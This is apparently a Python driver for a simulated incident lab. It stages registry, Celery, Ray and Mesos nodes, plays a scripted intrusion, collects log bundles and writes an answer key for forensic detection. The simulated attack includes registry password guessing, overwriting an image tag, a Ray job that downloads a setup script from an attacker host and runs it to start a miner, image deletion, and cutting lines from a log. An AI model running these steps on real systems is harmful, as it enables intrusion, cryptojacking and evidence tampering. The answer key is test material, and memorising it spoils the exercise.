"""Runs the laboratory, drives the story through it, collects the bundles and
writes truth.yml. Started by collect.sh inside its namespaces. See README.md."""
import argparse
import datetime
import glob
import json
import os
import random
import re
import shutil
import string
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE, os.path.join(HERE, "mesos")]

import pack  # noqa: E402
from clients import CURL, DOCKER, MANIFEST, Client, Server, image  # noqa: E402
from lab import NODES, PYTHON, Lab, log  # noqa: E402
from move import Move  # noqa: E402
from truth import Truth, cut, dump, iso, line_time, read  # noqa: E402

UTC = datetime.timezone.utc
BUNDLES = {
    "registry-1": "registry-1.tar.gz", "registry-2": "registry-2.tar.gz",
    "ray-head": "ray-head.tar.gz", "ray-worker-1": "ray-worker-1.zip",
    "mesos-master-1": "mesos-master-1.tar.gz", "mesos-agent-1": "mesos-agent-1.tar.gz",
    "celery-worker-1": "celery-worker-1.tar.gz", "celery-worker-2": "celery-worker-2.zip",
}
LB, OPS, CI = "10.20.0.2", "10.20.0.5", "10.20.0.6"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def utcnow():
    return datetime.datetime.now(UTC)


class Story:
    def __init__(self, args):
        self.a = args
        self.rng = rng = random.Random(args.seed)
        self.quiet = args.quiet
        self.scale = args.scale
        self.record = {}      # step id -> [from, to] UTC, what the driver did and when
        self.facts = {}
        self.errors = []
        self.stopping = threading.Event()
        self.lock = threading.Lock()

        def outside(net, n):
            return [f"{net}.{x}" for x in rng.sample(range(10, 250), n)]
        self.guessers = outside("203.0.113", 3) + outside("198.51.100", 3)
        rng.shuffle(self.guessers)
        self.winner = self.guessers[0]          # the address whose guess succeeds
        self.files = outside("198.51.100", 1)[0]
        while self.files in self.guessers:
            self.files = outside("198.51.100", 1)[0]
        self.intruder = outside("203.0.113", 1)[0]
        while self.intruder in self.guessers:
            self.intruder = outside("203.0.113", 1)[0]
        self.dead = outside("192.0.2", 1)[0]    # nothing listens there
        self.viewer, self.mallory, self.inject = outside("192.0.2", 3)
        word = lambda n: "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(n))
        self.users = {"ci": word(4).capitalize() + "2026!", "deploy": word(14), "mesos": word(14)}
        self.victim = "ci"
        self.names = rng.sample(["admin", "root", "jenkins", "docker", "test", "backup", "gitlab", "svc-build",
                                 "oracle", "registry", "builder", "ops"], 7) + ["ci", "ci", "deploy"]
        self.wallet = "4" + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(40))
        self.reg1 = NODES["registry-1"][0] + ":5000"
        self.reg2 = NODES["registry-2"][0] + ":5000"
        self.dash = NODES["ray-head"][0] + ":8265"

    # ---- bookkeeping -----------------------------------------------------
    def mark(self, *ids):
        now = utcnow()
        with self.lock:
            for i in ids:
                w = self.record.setdefault(i, [now, now])
                w[1] = now

    def guarded(self, fn):
        try:
            fn()
        except Exception as e:  # a failed action fails the run, after everything was stopped
            if not self.stopping.is_set():
                self.errors.append(f"{getattr(fn, '__name__', fn)}: {type(e).__name__}: {e}")
                log("ERROR", self.errors[-1])

    def every(self, seconds, fn, jitter=0.0):
        rng = random.Random(f"{self.a.seed}/{getattr(fn, '__name__', '')}/{seconds}")
        def loop():
            due = time.monotonic() + rng.random() * seconds
            while not self.stopping.wait(max(0, due - time.monotonic())):
                self.guarded(fn)
                due += seconds + rng.uniform(-jitter, jitter)
        threading.Thread(target=loop, daemon=True).start()

    def background(self, fn):
        t = threading.Thread(target=lambda: self.guarded(fn), daemon=True)
        t.start()
        return t

    def registry(self, source, agent=DOCKER, user=None, server=None):
        return Client(source, server or self.reg1, agent, user, self.users.get(user))

    # ---- systems ---------------------------------------------------------
    def start_all(self, lab):
        self.lab = lab
        self.begin = utcnow()
        addresses = {v[0] for v in NODES.values()} | {LB, OPS, CI, "127.0.0.1"} | set(self.guessers) | {self.files, self.intruder}
        addresses.discard("127.0.0.1")
        lab.up(addresses)
        self.start_registries()
        self.start_celery()
        self.start_ray()
        self.celery_ready()

    def put(self, node, path, text, mode=0o644):
        p = self.lab.root(node) + path
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text)
        os.chmod(p, mode)

    def start_registries(self):
        import subprocess
        lab = self.lab
        pw = ""
        for u, p in sorted(self.users.items()):
            pw += subprocess.run(["htpasswd", "-Bbn", "-C", "5", u, p], check=True, capture_output=True, text=True).stdout.strip() + "\n"
        secret = "".join(self.rng.choice(string.hexdigits.lower()[:16]) for _ in range(32))
        for node, addr, formatter in (("registry-1", self.reg1, "text"), ("registry-2", self.reg2, "json")):
            cfg = (f"version: 0.1\nlog:\n  level: info\n  formatter: {formatter}\n  fields:\n    service: registry\n    environment: prod\n"
                   "storage:\n  filesystem:\n    rootdirectory: /var/lib/registry\n  delete:\n    enabled: true\n"
                   f"http:\n  addr: {addr}\n  secret: {secret}\n  headers:\n    X-Content-Type-Options: [nosniff]\n")
            if node == "registry-1":
                cfg += ("auth:\n  htpasswd:\n    realm: team registry\n    path: /srv/htpasswd\n"
                        "notifications:\n  endpoints:\n    - name: audit\n      url: http://10.20.0.11:5080/events\n"
                        "      timeout: 1s\n      threshold: 5\n      backoff: 1s\n")
            self.put(node, "/srv/config.yml", cfg)
        self.put("registry-1", "/srv/htpasswd", pw)
        d = "/var/log/registry"
        os.makedirs(lab.root("registry-1") + d, exist_ok=True)
        Server("10.20.0.11", 5080, sink=lab.root("registry-1") + d + "/notifications.json").start()
        self.p_reg1 = lab.start("registry-1", ["/usr/bin/docker-registry", "serve", "/srv/config.yml"], d + "/access.log", d + "/registry.log")
        self.p_reg2 = lab.start("registry-2", ["/usr/bin/docker-registry", "serve", "/srv/config.yml"], d + "/access.log", d + "/registry.log")
        for r in (self.reg1, self.reg2):
            for _ in range(100):
                try:
                    Client(LB, r, "ELB-HealthChecker/2.0")("GET", "/")
                    break
                except OSError:
                    time.sleep(0.1)

    def start_celery(self):
        lab = self.lab
        self.put("celery-worker-1", "/srv/redis.conf", "bind 10.20.0.41\nport 6379\nprotected-mode no\nsave \"\"\nappendonly no\n"
                 "dir /var/lib\nlogfile /var/log/redis/redis-server.log\nloglevel verbose\n")
        os.makedirs(lab.root("celery-worker-1") + "/var/log/redis", exist_ok=True)
        lab.start("celery-worker-1", ["/usr/bin/redis-server", "/srv/redis.conf"])
        time.sleep(0.7)
        env = {"REGISTRY": self.reg1, "REGISTRY_USER": "deploy:" + self.users["deploy"],
               "BROKER": "redis://10.20.0.41:6379/0", "PYTHONPATH": "/srv"}
        nobody = 65534
        self.celery_env = env
        for n, queues in (("celery-worker-1", "default,deploy-1,reports"), ("celery-worker-2", "default,deploy-2")):
            shutil.copy(HERE + "/apps/deploy/tasks.py", lab.root(n) + "/srv/tasks.py")
            os.makedirs(lab.root(n) + "/var/lib", exist_ok=True)
            os.makedirs(lab.root(n) + "/var/log/celery", exist_ok=True)
            for d in ("/srv", "/var/lib", "/var/log/celery"):
                os.chmod(lab.root(n) + d, 0o777)
            lab.start(n, [PYTHON, "-m", "celery", "-A", "tasks", "worker", "-n", f"worker@{n}", "-c", "2", "-Q", queues,
                          "-l", "INFO", "--logfile=/var/log/celery/worker.log"],
                      "/var/log/celery/worker.stdout.log", "/var/log/celery/worker.stdout.log", env, user=nobody)
        lab.start("celery-worker-1", [PYTHON, "-m", "celery", "-A", "tasks", "beat", "-l", "INFO", "-s", "/var/lib/celerybeat-schedule",
                                      "--pidfile=", "--logfile=/var/log/celery/beat.log"],
                  "/var/log/celery/beat.stdout.log", "/var/log/celery/beat.stdout.log", env, user=nobody)

    def celery_ready(self):
        for n in ("celery-worker-1", "celery-worker-2"):
            for _ in range(100):
                try:
                    if f"worker@{n} ready." in open(self.lab.root(n) + "/var/log/celery/worker.log").read():
                        break
                except OSError:
                    pass
                time.sleep(0.3)
            else:
                raise SystemExit(f"celery on {n} did not get ready: "
                                 + open(self.lab.root(n) + "/var/log/celery/worker.stdout.log").read()[-600:])

    def send(self, *calls):
        """Sends Celery tasks from the operators' host: [(name, args, queue), ...]."""
        code = ("import json,os,sys,tasks\n"
                "for n,a,q in json.loads(sys.argv[1]): tasks.app.send_task(n, a, queue=q)\n")
        rc = self.lab.start("celery-worker-1", [PYTHON, "-c", code, json.dumps(calls)], None, None, self.celery_env, wait=True)
        assert rc == 0, f"sending tasks failed ({rc})"

    def start_ray(self):
        lab = self.lab
        os.makedirs(lab.root("ray-head") + "/srv/jobs", exist_ok=True)
        shutil.copy(HERE + "/apps/ray/etl.py", lab.root("ray-head") + "/srv/jobs/etl.py")
        env = {"RAY_USAGE_STATS_ENABLED": "0", "RAY_COLOR_PREFIX": "0", "NO_COLOR": "1"}
        common = [PYTHON, "-m", "ray.scripts.scripts", "start", "--block", "--disable-usage-stats", "--num-cpus=1", "--object-store-memory=80000000"]
        def up(node, extra, **more):
            lab.start(node, common + extra, "/var/log/ray-start.log", "/var/log/ray-start.log", dict(env, **more), pidns=True)
            for _ in range(200):
                if "Ray runtime started" in open(lab.root(node) + "/var/log/ray-start.log").read():
                    return
                time.sleep(0.3)
            raise SystemExit(f"ray on {node} did not start")
        up("ray-head", ["--head", "--node-ip-address=10.20.0.21", "--port=6385", "--dashboard-host=10.20.0.21", "--include-dashboard=true"])
        up("ray-worker-1", ["--address=10.20.0.21:6385", "--node-ip-address=10.20.0.22", "--dashboard-agent-listen-port=52366"],
           RAY_memory_usage_threshold="0.8")
        ops = Client(OPS, self.dash, BROWSER)
        for _ in range(100):
            try:
                if ops("GET", "/api/version")[0] == 200:
                    break
            except OSError:
                pass
            time.sleep(0.5)
        time.sleep(3)

    # ---- ordinary traffic ------------------------------------------------
    def stock(self):
        ci = self.registry(CI, user="ci")
        ci("GET", "/v2/")
        for repo, tags in (("team/app", ["1.0", "1.1", "1.2", "1.3", "latest"]), ("team/worker", ["2.0", "2.1"]), ("tools/base", ["12"])):
            for t in tags:
                ci.push(repo, t, *image(self.rng, f"{repo}:{t}"))
        c2 = self.registry(CI, server=self.reg2)
        for repo in ("mirror/alpine", "mirror/python"):
            c2.push(repo, "latest", *image(self.rng, repo))

    def ordinary(self):
        rng = random.Random(f"{self.a.seed}/ordinary")
        def health_1():
            Client(LB, self.reg1, "ELB-HealthChecker/2.0")("GET", "/")
        def health_2():
            Client(LB, self.reg2, "ELB-HealthChecker/2.0")("GET", "/v2/")
        def build():
            self.registry(CI, user="ci").pull(*rng.choice([("tools/base", "12"), ("team/worker", "2.1")]))
        def mirror():
            self.registry(CI, server=self.reg2).pull(rng.choice(["mirror/alpine", "mirror/python"]), "latest")
        def dashboard():
            ops = Client(OPS, self.dash, BROWSER)
            ops("GET", "/nodes?view=summary")
            ops("GET", "/api/cluster_status")
        self.every(5, health_1)
        self.every(5, health_2)
        self.every(23, build, 4)
        self.every(17, mirror, 3)
        self.every(12, dashboard, 1)

    def etl(self):
        ops = Client(OPS, self.dash, "python-requests/2.32.3", timeout=60)
        s, _, d = ops("POST", "/api/jobs/", json.dumps({"entrypoint": "python3 /srv/jobs/etl.py"}).encode(), Content_Type="application/json")
        assert s == 200, d
        log("ordinary job", json.loads(d)["submission_id"])

    def release(self):
        """The build host pushes a new version, as it does every day."""
        self.registry(CI, user="ci").push("team/worker", "2.2", *image(self.rng, "team/worker:2.2"))

    def mails(self):
        self.send(*[("mail.send", ["receipt"], "default")] * 6, ("reports.build", [3], "reports"))

    # ---- the attack ------------------------------------------------------
    def guess(self):
        """Password guessing from six addresses, tens of tries, then one that works."""
        rng = random.Random(f"{self.a.seed}/guess")
        span = 100 * self.scale
        plan = []
        for g in self.guessers:
            n = rng.randrange(10, 15)
            plan += [(rng.uniform(0, span), g, rng.choice(self.names)) for _ in range(n)]
        plan.sort()
        start = time.monotonic()
        agents = {g: rng.choice(["python-requests/2.31.0", "Go-http-client/1.1", "docker/24.0.5", CURL]) for g in self.guessers}
        agents[self.winner] = CURL
        self.tries = 0
        for due, g, user in plan:
            if self.stopping.wait(max(0, start + due - time.monotonic())):
                return
            word = "".join(rng.choice(string.ascii_lowercase) for _ in range(6))
            self.mark("registry-password-guessing", "registry-guessing-sources")
            s, _, _ = Client(g, self.reg1, agents[g], user, word)("GET", "/v2/")
            self.mark("registry-password-guessing", "registry-guessing-sources")
            assert s == 401
            self.tries += 1

    def login(self):
        c = self.registry(self.winner, CURL, self.victim)
        self.mark("registry-success-after-failures")
        assert c("GET", "/v2/")[0] == 200
        self.mark("registry-success-after-failures")

    def listing(self):
        c = self.registry(self.winner, CURL, self.victim)
        self.mark("registry-catalog-listing")
        _, _, d = c("GET", "/v2/_catalog?n=1000")
        for repo in json.loads(d)["repositories"]:
            c("GET", f"/v2/{repo}/tags/list")
        self.mark("registry-catalog-listing")
        c("GET", "/v2/team/app/manifests/latest", Accept=MANIFEST)

    def overwrite(self):
        c = self.registry(self.winner, CURL, self.victim)
        self.facts["old"] = c("HEAD", "/v2/team/app/manifests/latest", Accept=MANIFEST)[1]["Docker-Content-Digest"]
        self.mark("registry-tag-overwrite")
        self.facts["new"] = c.push("team/app", "latest", *image(self.rng, "team/app:latest", 3))
        self.mark("registry-tag-overwrite")
        log("overwritten", self.facts["old"][:19], "->", self.facts["new"][:19])

    def mesos_pull(self):
        c = self.registry(NODES["mesos-agent-1"][0], DOCKER, "mesos")
        self.mark("registry-mesos-agent-pull")
        got = c.pull("team/app", "latest")
        self.mark("registry-mesos-agent-pull")
        assert got == self.facts["new"]

    def recon(self):
        c = Client(self.intruder, self.dash, CURL)
        rng = random.Random(f"{self.a.seed}/recon")
        paths = ["/api/version", "/nodes?view=summary", "/api/jobs/", "/api/cluster_status", "/api/v0/actors", "/logical/actors",
                 "/api/v0/logs?node_ip=10.20.0.21", "/.env", "/api/serve/applications/"]
        first, rest = paths[0], paths[1:]
        rng.shuffle(rest)
        for p in [first] + rest:
            self.mark("ray-dashboard-recon")
            c("GET", p)
            self.mark("ray-dashboard-recon")
            self.stopping.wait(rng.uniform(0.4, 1.6) * self.scale)

    def job(self):
        c = Client(self.intruder, self.dash, CURL, timeout=60)
        e = f"curl -fsSL http://{self.files}:8099/setup.sh -o /tmp/.setup.sh && sh /tmp/.setup.sh"
        self.mark("ray-job-from-outside", "ray-entrypoint-download")
        s, _, d = c("POST", "/api/jobs/", json.dumps({"entrypoint": e}).encode(), Content_Type="application/json")
        self.mark("ray-job-from-outside", "ray-entrypoint-download")
        assert s == 200, d
        self.facts["job"] = json.loads(d)["submission_id"]
        self.mark("ray-miner-output", "ray-memory-kills")
        time.sleep(5)
        self.mark("ray-entrypoint-download")
        log("attacker's job", self.facts["job"])

    def job_stop(self):
        c = Client(self.intruder, self.dash, CURL)
        self.mark("ray-miner-output", "ray-memory-kills", "ray-job-traces-removed")
        s, _, d = c("POST", f"/api/jobs/{self.facts['job']}/stop", b"")
        log("stop", s, d[:80])
        for _ in range(30):
            st = json.loads(c("GET", f"/api/jobs/{self.facts['job']}")[2])["status"]
            if st not in ("RUNNING", "PENDING"):
                break
            time.sleep(0.5)
        s, _, d = c("DELETE", f"/api/jobs/{self.facts['job']}")
        log("delete", s, d[:80])
        self.mark("ray-job-traces-removed")

    def celery_memory(self):
        self.mark("celery-memory-kill")
        self.send(*[("reports.build", [120], "reports")] * 2)
        time.sleep(20)
        self.mark("celery-memory-kill")

    def delete(self):
        rng = random.Random(f"{self.a.seed}/delete")
        c = self.registry(self.winner, CURL, self.victim)
        doomed = [("team/app", t) for t in ("1.0", "1.1", "1.2", "1.3")] + [("team/worker", "2.0")]
        rng.shuffle(doomed)
        for repo, tag in doomed:
            d = c("HEAD", f"/v2/{repo}/manifests/{tag}", Accept=MANIFEST)[1]["Docker-Content-Digest"]
            self.mark("registry-images-deleted")
            assert c("DELETE", f"/v2/{repo}/manifests/{d}")[0] == 202
            self.mark("registry-images-deleted")
            self.stopping.wait(rng.uniform(0.5, 2.5))

    def replicas(self):
        rng = random.Random(f"{self.a.seed}/replicas")
        self.mark("celery-failure-burst")
        for k in range(4):
            self.send(*[("deploy.start_replica", ["team/app", rng.choice(["1.0", "1.1", "1.2", "1.3"]), k * 8 + i], "deploy-1") for i in range(8)])
            self.stopping.wait(4 * self.scale)
        time.sleep(8)
        self.mark("celery-failure-burst")

    def rotate(self):
        """logrotate's turn, on the nodes that have it."""
        lab = self.lab
        lab.rotate("registry-1", "/var/log/registry/registry.log", self.p_reg1)
        lab.rotate("registry-1", "/var/log/registry/access.log", self.p_reg1)
        lab.rotate("celery-worker-1", "/var/log/celery/worker.log", compress_from=2)
        lab.rotate("celery-worker-2", "/var/log/celery/worker.log", compress_from=1)
        log("rotated")

    # ---- the plan --------------------------------------------------------
    def timeline(self):
        """(second, what). The same every time but for the seed's jitter."""
        j = lambda t, d=3.0: max(0.0, t + self.rng.uniform(-d, d))
        normal = [(8, self.etl), (30, self.mails), (135, self.mails), (265, self.mails), (430, self.mails), (60, self.release),
                  (j(300), self.etl), (110, self.rotate), (310, self.rotate)]
        if self.quiet:
            return normal, 420
        attack = [(j(50), self.guess), (158, self.login), (j(170), self.listing), (j(185), self.overwrite), (j(222), self.mesos_pull),
                  (j(232), self.recon), (j(252), self.job), (j(385), self.job_stop), (j(345), self.celery_memory),
                  (j(410), self.delete), (j(432), self.replicas)]
        return normal + attack, 490

    CUT = (275, 455)          # seconds of the story cut out of registry-2's log
    MESOS = 130               # second of the story at which the Mesos logs begin

    def play(self):
        if not self.quiet:
            fill = lambda s: (s.replace("@FILES@", f"{self.files}:8099").replace("@POOL@", f"{self.files}:3333")
                              .replace("@WALLET@", self.wallet).replace("@SEED@", str(self.a.seed))
                              .replace("@SECOND@", NODES["ray-worker-1"][0]).replace("@LIFE@", "600").encode())
            Server(self.files, 8099, files={"/setup.sh": fill(open(HERE + "/apps/attack/setup.sh").read()),
                                            "/xmrig": fill(open(HERE + "/apps/attack/xmrig.py").read())}).start()
        self.stock()
        self.ordinary()
        plan, length = self.timeline()
        self.t0 = utcnow()
        m0 = time.monotonic()
        log("story begins", iso(self.t0), "length", round(length * self.scale), "s")
        threads = []
        for t, fn in sorted(plan, key=lambda x: x[0]):
            time.sleep(max(0, m0 + t * self.scale - time.monotonic()))
            log(f"+{time.monotonic() - m0:5.1f}", fn.__name__)
            threads.append(self.background(fn))
        time.sleep(max(0, m0 + length * self.scale - time.monotonic()))
        for t in threads:
            t.join(60)
        self.t1 = utcnow()
        self.stopping.set()
        time.sleep(1)
        self.lab.down()

    # ---- after the run ---------------------------------------------------
    def cut(self):
        """Takes a stretch out of registry-2's log, as one who hides traces does."""
        p = self.lab.root("registry-2") + "/var/log/registry/registry.log"
        a = self.t0 + datetime.timedelta(seconds=self.CUT[0] * self.scale)
        b = self.t0 + datetime.timedelta(seconds=self.CUT[1] * self.scale)
        st = os.stat(p)
        keep, before, gone = [], None, []
        after = None
        for line in open(p, encoding="utf-8"):
            t = line_time(line, UTC, self.t0.year)
            if t and a <= t < b:
                gone.append(t)
                continue
            if gone and after is None:
                after = (len(keep) + 1, t, line.rstrip("\n"))
            elif not gone:
                before = (len(keep) + 1, t, line.rstrip("\n"))
            keep.append(line)
        with open(p, "w", encoding="utf-8") as f:
            f.writelines(keep)
        os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
        assert len(gone) > 10 and before and after, (len(gone), before, after)
        self.gap = (a, b, before, after, len(gone))
        log("cut", len(gone), "lines out of registry-2's log")

    def mesos(self):
        start = (self.t0 + datetime.timedelta(seconds=self.MESOS * self.scale)).replace(tzinfo=None, microsecond=736000)
        cast = {"master": NODES["mesos-master-1"][0], "agent": NODES["mesos-agent-1"][0], "old_registry": "10.20.0.13",
                2: "10.20.0.33", 3: "10.20.0.66", 10: OPS, 21: self.viewer, 22: self.mallory, 23: self.inject,
                31: self.files, 32: self.dead, 66: self.intruder}
        self.move = Move(start, self.a.seed, cast)
        self.move.run(self.lab.root)
        for n in ("mesos-master-1", "mesos-agent-1"):
            for rest in ("srv", "tmp", "etc"):
                shutil.rmtree(f"{self.lab.root(n)}/{rest}", ignore_errors=True)

    REWRITTEN_MESOS = ("The Mesos bundles (mesos-master-1, mesos-agent-1) were not collected from running daemons: they are real logs of a "
                       "Mesos 1.12 master and agent whose times were all moved by one constant, whose UUIDs, host names and addresses were "
                       "replaced one for one to fit the story, and in whose paths a temporary work folder became /var/lib/mesos. "
                       "No line was added, removed or reworded.")
    REWRITTEN_TIMES = ("The file times of celery-worker-2 were moved 7 minutes back, to what its own clock would have set: its processes see the slow "
                       "clock (libfaketime), the file system does not.")

    def collect(self):
        """Copies what a responder would take from each node into out/<node>."""
        lab = self.lab
        stage = os.path.join(self.a.run, "stage")
        if not self.quiet:
            self.cut()
            self.mesos()
        for n in NODES:
            root, dst = lab.root(n), os.path.join(stage, n)
            if n.startswith("registry"):
                want = ["var/log/registry"]
            elif n.startswith("celery"):
                want = ["var/log/celery", "var/log/redis"]
            elif n.startswith("ray"):
                want = [os.path.relpath(p, root) for p in glob.glob(root + "/tmp/ray/session_2*/logs")]
                for p in glob.glob(root + "/tmp/ray/session_2*/logs/**/*", recursive=True):
                    # files Ray opens and never writes to would only be noise by the dozen
                    if os.path.isfile(p) and not os.path.getsize(p) and re.search(r"export_events|event_CORE_WORKER", p):
                        os.unlink(p)
            else:
                want = ["var/log/mesos", "var/lib/mesos"]
            for w in want:
                if os.path.isdir(f"{root}/{w}"):
                    pack.copy(f"{root}/{w}", f"{dst}/{w}")
        for n, (_, _, offset, _) in NODES.items():
            for p in pack.files(os.path.join(stage, n)) if offset else ():
                st = os.stat(p)
                os.utime(p, (st.st_atime + offset, st.st_mtime + offset))
        return stage

    def note(self, stage, sentences):
        for n in NODES:
            d = os.path.join(stage, n)
            if not os.path.isdir(d):
                continue
            p = os.path.join(d, "COLLECTION.txt")
            _, zone, offset, _ = NODES[n]
            kind = ("Made from real Mesos logs by test/collect/mesos/move.py" if n.startswith("mesos")
                    else "Collected from running processes by test/collect/collect.sh")
            with open(p, "w") as f:
                f.write(f"Node {n}. {kind}, seed {self.a.seed}.\nSample data: a scripted story on loopback addresses, no real incident.\n")
                for s in sentences:
                    if (n.startswith("mesos") or s is not self.REWRITTEN_MESOS) and (NODES[n][2] or s is not self.REWRITTEN_TIMES):
                        f.write("- " + s + "\n")
            t = self.t1.timestamp() + offset
            os.utime(p, (t, t))

    def truth(self, stage):
        T = Truth(lambda n: os.path.join(stage, n), NODES, self.t0.year)
        R = self.record
        esc = re.escape
        reg = ["var/log/registry/registry.log*"]
        reg_acc = ["var/log/registry/registry.log*", "var/log/registry/access.log*"]
        who = "|".join(esc(g) for g in self.guessers)
        n = len(self.guessers)
        T.step("registry-password-guessing", f"Password guessing on the registry from {n} addresses", "registry", "registry-1", reg,
               r'error authenticating user .*http\.request\.remoteaddr="(?:%s):' % who, R["registry-password-guessing"], self.tries, 200)
        T.step("registry-guessing-sources", f"The guesses come from {n} outside addresses", "registry", "registry-1", reg,
               r'error authenticating user .*http\.request\.remoteaddr="(?P<a>%s):' % who, R["registry-guessing-sources"], n, per="a")
        T.step("registry-success-after-failures", f"A login succeeds from {self.winner}, which had failed before", "registry", "registry-1", reg_acc,
               r'^(?=.*%s)(?=.*(?:GET /v2/ HTTP|http\.request\.uri="?/v2/"? ))(?=.*(?:authorized request|response completed"|" 200 ))' % esc(self.winner),
               R["registry-success-after-failures"], 2)
        T.step("registry-catalog-listing", "The intruder lists the catalog and the tags of every repository", "registry", "registry-1", reg_acc,
               r"^(?=.*%s)(?=.*(?:/_catalog|/tags/list))" % esc(self.winner), R["registry-catalog-listing"], 4)
        T.step("registry-tag-overwrite", f"team/app:latest is overwritten from {self.winner} with curl (new digest {self.facts['new'][:19]}...)",
               "registry", "registry-1", reg_acc, r"^(?=.*%s)(?=.*(?:PUT|=PUT))(?=.*/v2/team/app/manifests/latest)" % esc(self.winner),
               R["registry-tag-overwrite"], 2)
        new = self.facts["new"]
        T.step("registry-mesos-agent-pull", "The Mesos agent's Docker pulls the new digest", "registry", "registry-1", reg_acc,
               r"^(?=.*%s)(?=.*/v2/team/app/)" % esc(NODES["mesos-agent-1"][0]), R["registry-mesos-agent-pull"], 4)
        # The deploy task follows the overwrite by itself: its next check comes within the schedule's 20 s.
        w = (R["registry-tag-overwrite"][1], R["registry-tag-overwrite"][1] + datetime.timedelta(seconds=40))
        wrk = ["var/log/celery/worker.log*"]
        T.step("celery-deploy-new-digest", "The Celery deploy task resolves and deploys the new digest", "celery", "celery-worker-2", wrk,
               esc(new), w, 3, 6)
        T.step("registry-celery-pull", "The deploy task's requests for the new digest reach the registry", "registry", "registry-1", reg_acc,
               r"^(?=.*%s)(?=.*%s)" % (esc(NODES["celery-worker-2"][0]), esc(new)), w, 2, 10)
        dash = ["tmp/ray/session_*/logs/dashboard.log"]
        jd = [f"tmp/ray/session_*/logs/job-driver-{self.facts['job']}.log"]
        T.step("ray-dashboard-recon", f"The dashboard's API is explored from {self.intruder}", "ray", "ray-head", dash,
               r"web_log.*-- %s \[.*'GET " % esc(self.intruder), R["ray-dashboard-recon"], 6)
        T.step("ray-job-from-outside", f"A job is submitted through the dashboard from {self.intruder}", "ray", "ray-head",
               dash + ["tmp/ray/session_*/logs/dashboard_agent.log"],
               r"(?:-- %s \[.*'POST /api/jobs/ )|(?:Starting job with submission_id: %s)" % (esc(self.intruder), self.facts["job"]),
               R["ray-job-from-outside"], 2, slack=4)
        T.step("ray-entrypoint-download", "The job's entrypoint downloads a script and runs it", "ray", "ray-head", jd,
               r"Running entrypoint for job|^uid=0|^downloading http", R["ray-entrypoint-download"], 3, slack=4)
        T.step("ray-miner-output", "The downloaded program prints a miner's lines", "ray", "ray-head", jd,
               r"stratum\+tcp|accepted \(|miner    speed", R["ray-miner-output"], 5, 40, slack=6)
        T.step("ray-memory-kills", "The second node's memory monitor kills workers", "ray", "ray-worker-1",
               ["tmp/ray/session_*/logs/raylet.out"], r"Killing \d+ worker\(s\), kill details", R["ray-memory-kills"], 1, slack=6)
        T.step("ray-job-traces-removed", "The intruder stops and deletes the job", "ray", "ray-head", dash,
               r"-- %s \[.*'(?:POST /api/jobs/\S+/stop|DELETE /api/jobs/)" % esc(self.intruder), R["ray-job-traces-removed"], 2)
        T.step("celery-memory-kill", "A worker process is killed for memory", "celery", "celery-worker-1", wrk,
               r"exited with 'signal 9 \(SIGKILL\)'|Task handler raised error: WorkerLostError", R["celery-memory-kill"], 2, slack=10)
        T.step("registry-images-deleted", "Five image manifests are deleted", "registry", "registry-1", reg_acc,
               r"^(?=.*%s)(?=.*DELETE)(?=.*/manifests/)" % esc(self.winner), R["registry-images-deleted"], 10)
        T.step("celery-failure-burst", "Deploy tasks fail in a burst: their images are gone", "celery", "celery-worker-1", wrk,
               r"Task deploy\.start_replica\[.*raised unexpected", R["celery-failure-burst"], 20, slack=5)
        a, b, before, after, count = self.gap
        T.add("registry-2-log-gap", f"A stretch of {count} lines was cut out of the log", "registry", "registry-2", a, b,
              [{"member": "registry-2/var/log/registry/registry.log", "line": i, "utc": iso(t), "text": cut(s)} for i, t, s in (before, after)])
        U = self.move.utc
        mm = ["var/log/mesos/mesos-master.mesos-master-1.root.log.INFO.*"]
        ma = ["var/log/mesos/mesos-agent.mesos-agent-1.root.log.INFO.*"]
        rogue = esc("10.20.0.66")
        T.step("mesos-rogue-agent", "An unknown agent fails to authenticate and to register", "mesos", "mesos-master-1", mm,
               r"Authentication of slave\(1\)@%s:5051 was unsuccessful|Refusing registration of agent at slave\(1\)@%s" % (rogue, rogue),
               (U("18:53:55.990"), U("18:54:21.035")), 5)
        T.step("mesos-framework-auth-failures", "Frameworks with a wrong secret are refused", "mesos", "mesos-master-1", mm,
               r"Authentication of scheduler-\S+ was unsuccessful|Refusing subscription of framework", (U("18:54:22.541"), U("18:54:36.600")), 4)
        T.step("mesos-memory-limit", "Two tasks exceed their memory limit", "mesos", "mesos-agent-1", ma,
               r"OOM detected for container|Memory limit exceeded", (U("18:54:14.000"), U("18:54:19.000")), 4)
        T.step("mesos-fetch-raw-address", "A task tries to fetch a program from a bare outside address", "mesos", "mesos-agent-1", ma,
               r"(?:Fetching URI|Downloading resource from|Failed to fetch) 'http://%s:9/" % esc(self.dead), (U("18:54:44.658"), U("18:54:46.664")), 3)
        T.step("mesos-fetch-from-attacker", "A task fetches and runs a program from the address that serves the miner", "mesos", "mesos-agent-1",
               ["var/lib/mesos/a1/work/slaves/*/frameworks/*/executors/fetch-ok/runs/*/stderr"],
               r"(?:Fetching URI|Downloading resource from|Fetched) 'http://%s:8099/run\.sh'" % esc(self.files), (U("18:54:40.645"), U("18:54:42.651")), 3)
        T.step("mesos-forged-line", "A framework's name smuggles a line of its own into the master's log", "mesos", "mesos-master-1", mm,
               r"Received subscription request for HTTP framework 'reports$", (U("18:55:09.580"), U("18:55:09.600")), 1, slack=0.1)
        T.step("mesos-shell-in-container", "A shell and a container are started over the agent's API from the intruder's address", "mesos", "mesos-agent-1", ma,
               r"HTTP POST for /slave\(1\)/api/v1 from %s|Processing LAUNCH_NESTED_CONTAINER_SESSION|LAUNCH_CONTAINER call for container 'xmr" % esc(self.intruder),
               (U("18:55:17.170"), U("18:55:17.424")), 4, slack=0.1)
        T.step("mesos-teardown", "Frameworks are torn down from the intruder's address", "mesos", "mesos-master-1", mm,
               r"HTTP POST for /master/(?:teardown|api/v1) from %s|Processing call TEARDOWN" % esc(self.intruder), (U("18:56:03.700"), U("18:56:03.770")), 2)
        T.step("mesos-agent-marked-gone", "The agent is marked as gone from the intruder's address", "mesos", "mesos-master-1", mm,
               r"Marking agent '.*' as gone|HTTP POST for /master/api/v1 from %s" % esc(self.intruder), (U("18:57:22.500"), U("18:57:22.568")), 2)
